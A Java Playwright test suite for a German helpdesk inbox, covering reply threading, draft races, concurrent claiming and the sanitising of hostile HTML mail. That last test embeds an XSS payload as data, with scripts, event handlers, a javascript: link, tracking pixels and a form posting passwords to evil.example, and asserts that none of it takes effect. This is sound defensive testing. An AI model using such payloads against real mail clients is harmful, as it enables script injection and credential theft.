package io.faden.whole;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static io.faden.testing.Desk.button;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.FrameLocator;
import com.microsoft.playwright.Locator;
import io.faden.testing.Desk;
import io.faden.testing.House;
import io.vertx.core.json.JsonObject;
import jakarta.mail.MessagingException;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The product as its users meet it: in a browser, with real mail on the other side. */
class BrowserTest {
  @TempDir static Path folder;
  @AutoClose private static House house;

  @BeforeAll
  static void start() {
    house = House.withPeople(folder, Map.of());
  }

  private static Desk signIn(String email) {
    return Desk.signIn(house, email, "/inbox/team");
  }

  @Test
  void aMailIsAnsweredAndTheCustomersAnswerReopensIt() throws MessagingException, IOException {
    house.mail.mailbox("oliver@post.example");
    try (Desk lena = signIn(House.LENA)) {
      house.write(
          "Oliver Reimann <oliver@post.example>",
          "Tarifwechsel",
          "Hallo, wo bleibt die Bestätigung?");
      assertThat(lena.row("Tarifwechsel")).isVisible();
      lena.row("Tarifwechsel").click();
      assertThat(lena.page.locator(".entry").first()).containsText("wo bleibt die Bestätigung");
      button(lena.page.locator(".t-head"), "Nehmen").click();
      lena.writing().fill("Hallo Oliver,\n\nsie ist unterwegs.\n\nLena");
      button(lena.page.locator(".composer"), "Anders senden").click();
      lena.page.getByText("Senden und erledigen").click();

      MimeMessage answer = house.awaitMail("oliver@post.example");
      assertEquals("Re: Tarifwechsel", answer.getSubject());
      assertTrue(text(answer).contains("sie ist unterwegs"), text(answer));
      String question = messageId("Tarifwechsel");
      assertEquals("<" + question + ">", answer.getHeader("In-Reply-To", null));
      assertTrue(answer.getHeader("References", " ").contains(question));

      house.write(
          "Oliver Reimann <oliver@post.example>",
          "Re: Tarifwechsel",
          "Danke, und die Gutschrift?",
          "In-Reply-To: " + answer.getMessageID() + "\r\n",
          "text/plain; charset=utf-8");
      lena.go("/inbox/team");
      lena.row("Tarifwechsel").click();
      assertThat(lena.page.locator(".t-flow")).containsText("und die Gutschrift?");
      assertThat(lena.page.locator(".t-flow")).containsText("sie ist unterwegs");
      assertEquals(
          1L,
          house
              .database
              .database()
              .row(
                  "SELECT count(*) AS n FROM conversation WHERE subject = 'Tarifwechsel' AND status = 'open'")
              .orElseThrow()
              .getLong("n"));
      lena.noComplaints();
    }
  }

  /** Asked before the draft was saved, answered after: that answer knows of no draft. */
  private static final String LATE_ANSWER =
      """
      const { fetch } = window;
      const seconds = (n) => new Promise((then) => setTimeout(then, n * 1000));
      let asked, saved;
      const isAsked = new Promise((then) => { asked = then; });
      const isSaved = new Promise((then) => { saved = then; });
      window.armed = false;
      window.fetch = async (url, options) => {
        const method = options?.method ?? 'GET';
        if (!window.armed || !/\\/conversations\\/\\d+(\\/draft)?$/.test(url)) return fetch(url, options);
        if (method === 'PUT') {
          await isAsked;
          const answer = await fetch(url, options);
          seconds(0.1).then(saved);
          return answer;
        }
        if (window.late) return seconds(1e6);
        window.late = 'asked';
        const answer = await fetch(url, options);
        asked();
        await isSaved;
        seconds(0.3).then(() => { window.late = 'told'; });
        return answer;
      };
      """;

  @Test
  void anAnswerThatKnowsOfNoDraftDoesNotEmptyTheComposer() {
    house.write("Rike Sommer <rike@post.example>", "Umzug", "Wie melde ich mich um?");
    try (Desk lena = signIn(House.LENA)) {
      lena.context.addInitScript(LATE_ANSWER);
      lena.open("Umzug");
      button(lena.page.locator(".t-head"), "Nehmen").click();
      assertThat(lena.matter()).containsText("bei dir");
      lena.page.evaluate("window.armed = true");
      lena.writing().fill("Hallo Rike, online geht es so:");
      String id = lena.page.url().replaceAll(".*/", "");
      house.admin.post(
          "/conversations/" + id + "/notes",
          new JsonObject().put("text", "Formular liegt bei.").put("requestId", "note-with-form"),
          201);
      lena.page.waitForCondition(() -> "told".equals(lena.page.evaluate("window.late")));
      assertThat(lena.writing()).hasValue("Hallo Rike, online geht es so:");
    }
  }

  @Test
  void ofTwoWhoPressTakeAtOnceOneGetsItAndTheOtherIsTold() {
    house.write("Ayşe Yıldırım <ayse@post.example>", "Schlussrechnung", "Bitte prüfen.");
    try (Desk lena = signIn(House.LENA);
        Desk jens = signIn(House.JENS)) {
      for (Desk desk : List.of(lena, jens)) {
        desk.open("Schlussrechnung");
      }
      // Both pages still show it as free when they press.
      Locator first = button(lena.page.locator(".t-head"), "Nehmen");
      Locator second = button(jens.page.locator(".t-head"), "Nehmen");
      assertThat(first).isVisible();
      assertThat(second).isVisible();
      lena.page.evaluate("button => setTimeout(() => button.click(), 50)", first.elementHandle());
      jens.page.evaluate("button => setTimeout(() => button.click(), 50)", second.elementHandle());
      lena.page.waitForCondition(
          () ->
              lena.matter().innerText().contains("bei dir")
                      != jens.matter().innerText().contains("bei dir")
                  && lena.matter().innerText().contains("bei ")
                  && jens.matter().innerText().contains("bei "));
      boolean lenaHasIt = lena.matter().innerText().contains("bei dir");
      Desk other = lenaHasIt ? jens : lena;
      assertThat(other.matter()).containsText(lenaHasIt ? "bei Lena Möller" : "bei Jens Albrecht");
    }
  }

  @Test
  void hostileMailRunsNothingLoadsNothingAndTouchesNothing() {
    String html =
        """
        <html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
        <style>body { background: url(https://evil.example/bg.png) } .nav { display: none !important }</style></head>
        <body onload="top.hacked = 1"><h1>Guten Tag</h1>
        <script>top.hacked = 2; parent.document.title = 'hacked'; fetch('https://evil.example/x')</script>
        <img src="https://evil.example/pixel.png" onerror="top.hacked = 3"><img src=x onerror="top.hacked = 4">
        <svg onload="top.hacked = 5"><script>top.hacked = 6</script></svg>
        <a href="javascript:top.hacked = 7">klick</a> <iframe src="https://evil.example/frame"></iframe>
        <form action="https://evil.example/steal"><input name="password"><button>Anmelden</button></form>
        <div style="position:fixed;inset:0;background:url(https://evil.example/c.png)">drüber</div>
        <link rel="stylesheet" href="https://evil.example/s.css"><object data="https://evil.example/o"></object>
        </body></html>
        """;
    house.write("Evil <evil@post.example>", "Boese Post", html, "", "text/html; charset=utf-8");
    try (Desk lena = signIn(House.LENA)) {
      List<String> outside = new ArrayList<>();
      lena.context.onRequest(
          request -> {
            if (!request.url().startsWith(house.url()) && !request.url().startsWith("data:")) {
              outside.add(request.url());
            }
          });
      lena.open("Boese Post");
      FrameLocator mail = lena.page.frameLocator("iframe");
      assertThat(mail.locator("h1")).hasText("Guten Tag");
      if (mail.locator("a").count() > 0) {
        mail.locator("a")
            .first()
            .click(new Locator.ClickOptions().setForce(true).setTimeout(2_000));
      }
      assertEquals(null, lena.page.evaluate("() => window.hacked ?? null"));
      assertEquals(
          0,
          mail.locator(
                  "script, form, input, iframe, object, svg, body style, link, base, meta[http-equiv]")
              .count());
      assertEquals(List.of(), outside);
      assertThat(lena.page.locator(".nav")).isVisible();
      assertThat(lena.page).hasTitle(Pattern.compile("(?!.*hacked).*"));
      assertEquals(
          "none",
          lena.page.evaluate(
              "async () => (await fetch(document.querySelector('iframe').src)).headers.get('content-security-policy').match(/default-src '(\\w+)'/)[1]"));
    }
  }

  private static String text(MimeMessage message) throws MessagingException, IOException {
    java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
    message.writeTo(out);
    return out.toString(java.nio.charset.StandardCharsets.UTF_8);
  }

  /** The id of the customer's first message with a subject. */
  private static String messageId(String subject) {
    return house
        .database
        .database()
        .rows(
            "SELECT message_id FROM entry WHERE subject = $1 AND direction = 'in' ORDER BY id LIMIT 1",
            subject)
        .get(0)
        .getString("message_id");
  }
}
